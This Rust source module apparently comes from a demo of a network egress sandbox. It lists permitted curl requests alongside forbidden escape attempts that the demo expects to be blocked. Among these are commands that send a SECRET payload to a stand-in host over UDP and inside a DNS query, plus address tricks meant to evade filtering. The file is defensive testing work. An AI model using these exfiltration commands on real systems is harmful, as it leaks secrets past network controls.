//! The ways out that the demo tries.

use super::scene::{API, API_V4, FOREIGN, OTHER, OTHER_V4, OTHER_V6, PLAIN, SECRET, UDP_PORT};

/// A flow that the policy does not allow.
pub(super) struct Forbidden {
    pub(super) what: &'static str,
    /// Why it goes nowhere, in plain words.
    pub(super) why: &'static str,
    pub(super) command: String,
    /// Whether a hook of the kernel refuses it, rather than the daemon's name server.
    pub(super) by_hook: bool,
    /// What its line in `exeat events` names.
    pub(super) event: String,
}

/// A flow that the policy allows.
pub(super) struct Allowed {
    pub(super) what: &'static str,
    pub(super) command: String,
    /// First line of the request that the host is to receive.
    pub(super) request: &'static str,
    /// Name in the TLS hello.
    pub(super) server_name: Option<&'static str>,
}

pub(super) fn allowed() -> Vec<Allowed> {
    vec![
        Allowed {
            what: "the allowed name, over https",
            command: format!("curl https://{API}/hello"),
            request: "GET /hello HTTP/1.1",
            server_name: Some(API),
        },
        Allowed {
            what: "the allowed page, over http",
            command: format!("curl http://{PLAIN}/page"),
            request: "GET /page HTTP/1.1",
            server_name: None,
        },
    ]
}

/// The name server of the agent is the daemon's gate. Without the daemon no name is
/// resolved; addresses that were leased stay allowed.
pub(super) fn leased() -> Allowed {
    Allowed {
        what: "the allowed address, without a daemon",
        command: format!("curl --resolve {API}:443:{API_V4} https://{API}/still-here"),
        request: "GET /still-here HTTP/1.1",
        server_name: Some(API),
    }
}

pub(super) fn forbidden() -> Vec<Forbidden> {
    vec![
        Forbidden {
            what: "another name",
            why: "the policy does not name it, so it is not even resolved",
            by_hook: false,
            command: format!("curl https://{OTHER}/"),
            event: OTHER.to_owned(),
        },
        Forbidden {
            what: "a raw IPv4 address",
            why: "no rule covers it, so connect() fails at once",
            by_hook: true,
            command: format!("curl http://{OTHER_V4}/"),
            event: format!("tcp {OTHER_V4}:80"),
        },
        Forbidden {
            what: "a raw IPv6 address",
            why: "the same walls stand for IPv6",
            by_hook: true,
            command: format!("curl 'http://[{OTHER_V6}]/'"),
            event: format!("[{OTHER_V6}]:80"),
        },
        Forbidden {
            what: "IPv4 dressed up as IPv6",
            why: "::ffff:a.b.c.d is judged as the IPv4 address that it is",
            by_hook: true,
            command: format!("curl 'http://[::ffff:{OTHER_V4}]/'"),
            event: format!("{OTHER_V4}:80"),
        },
        Forbidden {
            what: "a UDP datagram",
            why: "sent without a connection: sendto() fails just as well",
            by_hook: true,
            command: format!(
                "hostile udp4-sendto --target {OTHER_V4} --port {UDP_PORT} --payload {SECRET}"
            ),
            event: format!("{OTHER_V4}:{UDP_PORT}"),
        },
        Forbidden {
            what: "a secret in a DNS question",
            why: "port 53 of any server leads to the daemon, which refuses (rcode 5) and forwards nothing",
            by_hook: false,
            command: format!("hostile dns-udp4 --target {FOREIGN} --payload {SECRET}"),
            event: SECRET.to_owned(),
        },
    ]
}
